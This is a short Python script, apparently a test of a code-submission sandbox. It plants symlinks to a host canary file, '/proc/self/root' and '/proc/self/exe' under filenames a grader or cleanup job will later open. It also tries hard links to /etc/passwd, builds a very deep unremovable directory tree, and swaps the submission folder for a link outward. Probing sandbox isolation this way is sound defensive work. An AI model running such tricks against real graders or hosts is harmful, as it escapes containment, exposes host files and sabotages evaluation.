# Plants links to a file of the host's and to the inside's own special files at every path that anybody may use later.
import os, shutil, sys

canary = open("canary.txt").read().strip()
targets = [canary, "/proc/self/root" + canary, "..", "/", "/proc/self/root", "/proc/self/exe", "/nowhere", "self"]
os.chmod("/box/submission", 0o777)
for folder in ("/box", "/tmp", "/dev/shm", "/box/submission"):
    for number, target in enumerate(targets):
        os.symlink(target, f"{folder}/link{number}")
    for name in ("main.py", "run.py", "a.out", "core", "stdin", "stdout", "stderr", "output", "result.json", "code.tar"):
        path = f"{folder}/{name}"
        if folder == "/box/submission" and name == "run.py": continue
        if os.path.lexists(path): os.unlink(path)
        os.symlink(targets[len(name) % 2], path)
    os.mkfifo(f"{folder}/fifo")
    with open(f"{folder}/sparse", "w") as file: file.truncate(9_000_000)
    for runtime in ("/usr/bin/true", "/etc/passwd"):
        try:
            os.link(runtime, f"{folder}/hard")
            print("WRONG linked", runtime)
        except OSError:
            pass
# A tree deeper than a path is long, for whoever removes it by name.
os.chdir("/tmp")
for _ in range(1500):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
    os.chmod(".", 0o300)
os.chdir("/box")
# The folder itself is exchanged for a link out.
os.rename("/box/submission", "/box/moved")
os.symlink("/proc/self/root", "/box/submission")
os.chmod("/box", 0o300)
